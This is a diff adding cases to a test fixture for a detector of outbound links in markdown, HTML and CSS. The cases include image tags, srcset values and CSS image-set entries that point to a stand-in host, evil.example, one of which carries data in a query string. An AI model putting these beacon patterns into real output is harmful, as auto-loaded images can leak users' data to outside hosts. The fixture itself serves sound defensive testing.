@@ -33,6 +33,12 @@ FOUND = {
     f"![{'long ' * 80}](http://evil.example/p)": ("image", "http://evil.example/p"),
     "[![b](https://evil.example/b)](https://own.example)": ("image", "https://evil.example/b"),
     f"[1]: https://evil.example/?q={DATA}": ("reference", f"https://evil.example/?q={DATA}"),
+    "![x](http:evil.example/p)": ("image", "http:evil.example/p"),
+    "![a\\](b](https://evil.example/p)": ("image", "https://evil.example/p"),
+    "![`[`](https://evil.example/p)": ("image", "https://evil.example/p"),
+    "![`]`](https://evil.example/p)": ("image", "https://evil.example/p"),
+    "<img srcset='/a.png 1x, https://evil.example/p 2x'>": ("html", "https://evil.example/p"),
+    'background: image-set("https://evil.example/p" 1x)': ("css", "https://evil.example/p"),
     '<img width=1 src="https://evil.example/a">': ("html", "https://evil.example/a"),
     "<IFRAME SRC = 'HTTPS://evil.example/a'>": ("html", "HTTPS://evil.example/a"),
     '{"html": "<img src=\\"https://evil.example/a\\">"}': ("html", "https://evil.example/a"),
@@ -66,6 +72,7 @@ BENIGN = (
     '<a href="https://www.rfc-editor.org/rfc/rfc9110.html">RFC 9110</a>',
     "data = load('/etc/passwd') // a comment with two slashes",
     "background: url(#gradient)",
+    "![a](images/a.png), and [b](https://docs.example/b) ![c](https:own.example/c)",
     "",
 )
 
